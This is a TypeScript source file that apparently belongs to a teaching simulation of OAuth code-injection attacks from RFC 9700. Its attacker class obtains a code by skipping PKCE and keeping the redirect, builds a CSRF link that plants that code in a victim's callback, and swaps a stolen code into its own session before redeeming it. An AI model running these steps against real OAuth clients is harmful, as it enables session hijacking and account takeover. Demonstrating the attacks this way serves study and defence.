import { base64UrlEncode } from '../pkce';
import type { Attacker } from './attacker';
import { McpClient } from './client';
import { headerValue, type Exchange, type Send } from './http';
import type { HttpRequest } from './types';

/**
 * The attacker's code-injection moves: a code planted in the victim's callback (RFC 9700 §4.8)
 * and a stolen code swapped into its own session (§4.5). What it learns goes in the attacker's
 * notebook. Loaded only by the scenarios that show them.
 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
 */
export class CodeInjection {
	private ownClient: McpClient | undefined;
	private ownCallback: string | undefined;

	constructor(private readonly attacker: Attacker) {}

	// #region downgrade-own-flow
	/**
	 * RFC 9700 §4.8: it signs in to its own account with the honest client's `client_id` and
	 * `redirect_uri` but no `code_challenge`, and keeps the code instead of following the redirect.
	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.8
	 */
	async startOwnFlowWithoutPkce(send: Send, victimRedirectUri: string): Promise<Exchange> {
		const { options, user } = this.attacker;
		const url = new URL(options.authorization_endpoint);
		url.searchParams.append('response_type', 'code');
		url.searchParams.append('client_id', options.client_id);
		url.searchParams.append('redirect_uri', victimRedirectUri); // #mark victim-redirect
		url.searchParams.append('state', base64UrlEncode(options.random(16)));
		url.searchParams.append('resource', options.resource);
		const request = browserGet(url.href);
		const response = await send(request, { user });
		const location = headerValue(response, 'Location');
		if (location) this.attacker.copy(new URL(location).searchParams, 'code', 'state'); // #mark keep-code
		return { request, response };
	}
	// #endregion downgrade-own-flow

	// #region inject-into-victim
	/** The link it makes the victim's browser open (CSRF): the victim's callback, its own code. */
	injectionLink(victimRedirectUri: string): string {
		const { code, state } = this.attacker.knowledge();
		const url = new URL(victimRedirectUri);
		if (code) url.searchParams.append('code', code); // #mark plant
		if (state) url.searchParams.append('state', state);
		return url.href;
	}
	// #endregion inject-into-victim

	// #region own-session
	/**
	 * RFC 9700 §4.5: it starts a sign-in in its own copy of the honest client (same software,
	 * same loopback port, so the same `redirect_uri`) and lets the server redirect as usual.
	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
	 */
	async startOwnSession(send: Send, port: number): Promise<Exchange> {
		const { client_id, resource, random, sha256, authorization_endpoint, token_endpoint } =
			this.attacker.options;
		const client = new McpClient({ client_id, port, resource, random, sha256 });
		client.useServer({ authorization_endpoint, token_endpoint });
		await client.startSignIn(); // #mark own-verifier
		const request = browserGet(client.authorizationUrl());
		const response = await send(request, { user: this.attacker.user });
		this.ownClient = client;
		this.ownCallback = headerValue(response, 'Location');
		return { request, response };
	}
	// #endregion own-session

	// #region inject-stolen-code
	/**
	 * Swaps the stolen code into the callback of its own sign-in; its client checks `state`,
	 * which is its own, and accepts. Only PKCE (or an OpenID Connect nonce) tells the two apart now.
	 * @see https://www.rfc-editor.org/rfc/rfc9700#section-4.5
	 */
	injectStolenCode(): string {
		const { code } = this.attacker.knowledge();
		if (!code || !this.ownClient || !this.ownCallback) throw new Error('nothing to inject');
		const callback = new URL(this.ownCallback);
		callback.searchParams.set('code', code); // #mark swap
		this.ownClient.receiveCallback(callback.href); // #mark accept
		return callback.href;
	}

	/** Its own client redeems the injected code with that client's own `code_verifier`. */
	async redeemInjectedCode(send: Send): Promise<Exchange> {
		if (!this.ownClient) throw new Error('no session of its own');
		return this.attacker.keepToken(await this.ownClient.redeem(send)); // #mark redeem
	}
	// #endregion inject-stolen-code
}

/** A navigation in the attacker's own browser. */
function browserGet(url: string): HttpRequest {
	return { method: 'GET', url, headers: [['Accept', 'text/html']] };
}
